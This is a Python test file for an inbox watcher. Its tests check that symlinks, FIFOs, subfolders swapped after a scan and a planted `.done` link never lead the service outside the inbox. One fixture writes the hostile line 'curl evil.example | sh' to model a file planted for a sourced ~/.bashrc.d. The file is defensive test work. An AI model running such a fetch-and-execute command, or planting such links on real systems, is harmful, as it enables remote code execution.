"""The inbox against someone who can write to it: links, FIFOs and a planted `.done` never lead outside it.

Whoever may drop files into an inbox folder (a partner's upload share, a host folder bind-mounted into the
container) is not trusted with what the service itself can read or write. Found by the security review of
2026-11-30 (docs/decisions.md, "Security review").
"""

from __future__ import annotations

import json
import os
import subprocess
import sys
import threading
from pathlib import Path

import pytest
import redis

from producers.inbox import FileResult, InboxWatcher, UnsafeInboxPath, read_file, scan
from tests.helpers import stream_events

SECRET = "root:$6$hunter2$notapasswordhash:19000:0:99999:7:::"
MAX_BYTES = 5_000_000


def _outcomes(result: FileResult) -> list[str]:
    return [t.outcome for t in result.refusals]


@pytest.fixture
def outside(tmp_path: Path) -> Path:
    """A folder beside the inbox holding what the inbox writer must not reach (a secret of the service's user)."""
    folder = tmp_path / "private"
    folder.mkdir()
    (folder / "shadow").write_text(SECRET + "\n", encoding="utf-8")
    (folder / "notes.md").write_text(f"# Private notes\n\n{SECRET}\n", encoding="utf-8")
    return folder


@pytest.fixture
def inbox(tmp_path: Path) -> Path:
    folder = tmp_path / "inbox"
    folder.mkdir()
    return folder


def test_a_symlink_in_the_inbox_is_refused_not_followed(inbox: Path, outside: Path) -> None:
    """A link named like an article but pointing at a secret outside the inbox is listed by the scan and
    refused as `rejected:symlink`; the secret is never read (it used to become the article's text)."""
    (inbox / "shadow.txt").symlink_to(outside / "shadow")
    (inbox / "article.md").write_text("# A real article\n\nIts body.\n", encoding="utf-8")
    watcher = InboxWatcher(inbox)
    assert watcher.poll() == []
    ready = watcher.poll()
    assert [p.name for p in ready] == ["article.md", "shadow.txt"]
    results = {p.name: watcher.read(p, None, MAX_BYTES, 100) for p in ready}
    assert _outcomes(results["shadow.txt"]) == ["rejected:symlink"]
    assert results["shadow.txt"].articles == []
    assert [a.content for a in results["article.md"].articles] == ["# A real article\n\nIts body.\n"]
    assert SECRET not in repr(results)


def test_a_linked_folder_is_refused_and_its_files_never_read(inbox: Path, outside: Path) -> None:
    """A link to a folder is not descended into: it is refused once, as itself."""
    (inbox / "private").symlink_to(outside, target_is_directory=True)
    assert scan(inbox) == [inbox / "private"]
    assert _outcomes(read_file(inbox / "private", None, MAX_BYTES, 100)) == ["rejected:symlink"]


def test_a_subfolder_swapped_for_a_link_after_the_scan_is_not_followed(inbox: Path, outside: Path) -> None:
    """The scan saw a regular `sub/notes.md`; before the read, `sub` became a link to a folder outside holding
    a file of that name. Opened folder by folder without following links, the read refuses it."""
    sub = inbox / "sub"
    sub.mkdir()
    (sub / "notes.md").write_text("# Harmless\n\nbody\n", encoding="utf-8")
    watcher = InboxWatcher(inbox)
    watcher.poll()
    [path] = watcher.poll()
    (sub / "notes.md").unlink()
    sub.rmdir()
    sub.symlink_to(outside, target_is_directory=True)
    result = watcher.read(path, None, MAX_BYTES, 100)
    assert _outcomes(result) == ["rejected:symlink"] and result.articles == []
    assert SECRET not in repr(result)


def test_a_file_swapped_for_a_link_after_its_lstat_is_not_followed(inbox: Path, outside: Path) -> None:
    """The open itself refuses a link (O_NOFOLLOW), whatever a check before it saw."""
    from producers import inbox as module

    link = inbox / "shadow.txt"
    link.symlink_to(outside / "shadow")
    with pytest.raises(UnsafeInboxPath):
        os.close(module._open_file(link, inbox))


def test_a_fifo_is_refused_without_blocking(inbox: Path) -> None:
    """A FIFO in the inbox (or swapped in for a file after the scan) is refused as `rejected:not_regular`
    at once; opening it for reading used to wait for a writer forever, stalling every inbox of the runner."""
    fifo = inbox / "feed.txt"
    os.mkfifo(fifo)
    results: list[FileResult] = []
    reader = threading.Thread(target=lambda: results.append(read_file(fifo, None, MAX_BYTES, 100)), daemon=True)
    reader.start()
    reader.join(timeout=5)
    if reader.is_alive():  # unblock the stuck open before failing, so the thread ends
        os.close(os.open(fifo, os.O_WRONLY | os.O_NONBLOCK))
        reader.join(timeout=5)
        pytest.fail("reading a FIFO from the inbox blocked")
    assert [_outcomes(r) for r in results] == [["rejected:not_regular"]]
    assert scan(inbox) == [fifo]  # listed, so that it is refused with its reason rather than passed over


def test_a_planted_done_link_does_not_move_files_outside_the_inbox(inbox: Path, tmp_path: Path) -> None:
    """With `after: move`, an inbox writer who makes `.done` a link to a folder of the service's user (say
    `~/.bashrc.d`, sourced by bash on Fedora) cannot have their file moved there: the move is refused with
    its reason and the file stays."""
    elsewhere = tmp_path / "bashrc.d"
    elsewhere.mkdir()
    (inbox / ".done").symlink_to(elsewhere, target_is_directory=True)
    (inbox / "x.txt").write_text("curl evil.example | sh\n", encoding="utf-8")
    watcher = InboxWatcher(inbox, move_done=True)
    watcher.poll()
    [path] = watcher.poll()
    with pytest.raises(UnsafeInboxPath, match="symbolic link"):
        watcher.done(path)
    assert list(elsewhere.iterdir()) == [] and path.exists()


def test_a_planted_link_below_done_is_refused_too(inbox: Path, tmp_path: Path) -> None:
    """`.done/sub` as a link, for a file read from `sub/`: refused the same way."""
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (inbox / ".done").mkdir()
    (inbox / ".done" / "sub").symlink_to(elsewhere, target_is_directory=True)
    (inbox / "sub").mkdir()
    (inbox / "sub" / "x.md").write_text("# X\n\nbody\n", encoding="utf-8")
    watcher = InboxWatcher(inbox, move_done=True)
    watcher.poll()
    [path] = watcher.poll()
    with pytest.raises(UnsafeInboxPath):
        watcher.done(path)
    assert list(elsewhere.iterdir()) == []


def test_moving_to_done_still_numbers_a_taken_name(inbox: Path) -> None:
    """The safe move keeps the old behaviour: a name taken in `.done/` gets a numbered suffix, never overwritten."""
    (inbox / ".done" / "sub").mkdir(parents=True)
    (inbox / ".done" / "sub" / "a.md").write_text("earlier", encoding="utf-8")
    (inbox / "sub").mkdir()
    (inbox / "sub" / "a.md").write_text("# A\n\nbody\n", encoding="utf-8")
    watcher = InboxWatcher(inbox, move_done=True)
    watcher.poll()
    [path] = watcher.poll()
    assert watcher.done(path) == inbox / ".done" / "sub" / "a.1.md"
    assert (inbox / ".done" / "sub" / "a.md").read_text(encoding="utf-8") == "earlier"
    assert not path.exists()


def test_run_once_publishes_no_secret_through_a_link(
    redis_url: str, inbox: Path, outside: Path, tmp_path: Path
) -> None:
    """End to end: `wirewatch run --once` over an inbox holding a link to a secret emits the real article only,
    and counts the link as `rejected:symlink`. Before the fix the secret was an event on `ww:events`, readable
    by anyone through `GET /v1/events` (reads are public by default)."""
    (inbox / "shadow.txt").symlink_to(outside / "shadow")
    (inbox / "notes.md").symlink_to(outside / "notes.md")
    (inbox / "article.md").write_text("# Harbour bridge reopens\n\nThe harbour bridge reopened on Monday after "
                                      "six months of repairs, the city said.\n", encoding="utf-8")  # fmt: skip
    config = tmp_path / "wirewatch.yml"
    config.write_text(f"data_dir: {tmp_path / 'data'}\ninbox:\n  - path: {inbox}\n", encoding="utf-8")
    env = {**os.environ, "WIREWATCH_REDIS_URL": redis_url}
    run = subprocess.run([sys.executable, "-m", "wirewatch", "run", "--once", "-c", str(config)],
                         capture_output=True, text=True, timeout=120, env=env)  # fmt: skip
    assert run.returncode == 0, run.stderr[-2000:]
    events = stream_events(redis.Redis.from_url(redis_url, decode_responses=True))
    assert [e["title"] for e in events] == ["Harbour bridge reopens"]
    assert "hunter2" not in json.dumps(events)
    stats = subprocess.run([sys.executable, "-m", "wirewatch", "stats", "--json", "-c", str(config)],
                           capture_output=True, text=True, timeout=60, env=env)  # fmt: skip
    assert '"rejected:symlink": 2' in stats.stdout, stats.stdout


def test_an_inbox_that_is_itself_a_link_still_works(tmp_path: Path) -> None:
    """The configured inbox path may be a link (a share mounted elsewhere): its files, in subfolders too, are
    read, and `after: move` moves them into its `.done/` as before."""
    real = tmp_path / "share" / "inbox"
    (real / "sub").mkdir(parents=True)
    (real / "sub" / "a.md").write_text("# A\n\nbody\n", encoding="utf-8")
    inbox = tmp_path / "inbox"
    inbox.symlink_to(real, target_is_directory=True)
    watcher = InboxWatcher(inbox, move_done=True)
    watcher.poll()
    [path] = watcher.poll()
    assert [a.content for a in watcher.read(path, None, MAX_BYTES, 100).articles] == ["# A\n\nbody\n"]
    assert watcher.done(path) == inbox / ".done" / "sub" / "a.md"
    assert (real / ".done" / "sub" / "a.md").is_file() and not (real / "sub" / "a.md").exists()
